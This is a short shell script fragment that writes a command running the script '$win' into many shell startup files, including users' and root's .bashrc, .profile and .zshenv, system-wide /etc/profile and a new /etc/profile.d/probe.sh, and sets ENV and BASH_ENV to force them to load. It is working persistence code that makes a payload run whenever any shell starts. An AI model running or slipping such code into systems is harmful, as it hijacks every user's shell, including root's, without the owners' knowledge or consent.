# Plants files that shells run when they start.
for folder in "$HOME" "$work" /root /etc; do
  for name in .bashrc .profile .bash_profile .bash_login .zshenv .kshrc bash.bashrc profile; do
    echo "sh $win" | plant "$folder/$name"
  done
done
echo "sh $win" | plant /etc/profile.d/probe.sh
export ENV="$HOME/.profile" BASH_ENV="$HOME/.bashrc"
